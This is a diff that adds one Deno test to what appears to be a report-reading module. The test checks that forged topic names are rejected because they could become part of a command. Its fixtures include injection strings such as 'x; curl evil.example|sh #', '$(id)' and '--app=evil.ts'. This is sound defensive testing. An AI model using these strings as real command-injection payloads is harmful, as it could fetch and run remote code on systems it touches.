@@ -170,6 +170,35 @@ Deno.test("a forged report with many groups is read within the bounds of one tha
   }, { groups: 50, topics: 100, running: 50, partitions: 100, runningOfPartitions: 50, failing: 50 });
 });
 
+Deno.test("an entry is left out if its topic is not the name of a topic: the name becomes a part of a command", () => {
+  const forged = [
+    "x; curl evil.example|sh #",
+    "$(id)",
+    "a b",
+    "a\n",
+    "--app=evil.ts ",
+    "",
+    "..",
+    "t".repeat(250),
+    7,
+    null,
+  ];
+  const found = (topic: unknown) => {
+    const named = topic as string;
+    const records = [{ ...failing, topic: named, remedy: "" }];
+    const partitions = [
+      partition(0, { retrying: records, stuck: records }),
+      { ...partition(1), topic: named },
+    ];
+    const report = reportRecord(identity, statusOf(partitions, [{ ...run, topic: named }]), null);
+    const [group] = read(report)!.status.groups;
+    const [first] = group!.partitions;
+    return [group!.partitions, group!.running, first!.retrying, first!.stuck].map((list) => list.length);
+  };
+  assertEquals(forged.map(found), forged.map(() => [1, 0, 0, 0]));
+  assertEquals(found("eu.mail_2-x"), [2, 1, 1, 1]);
+});
+
 Deno.test("a record that is not a report is ignored, whatever it is", () => {
   const sound = JSON.parse(reportRecord(identity, statusOf([]), null).value as string);
   const values = [
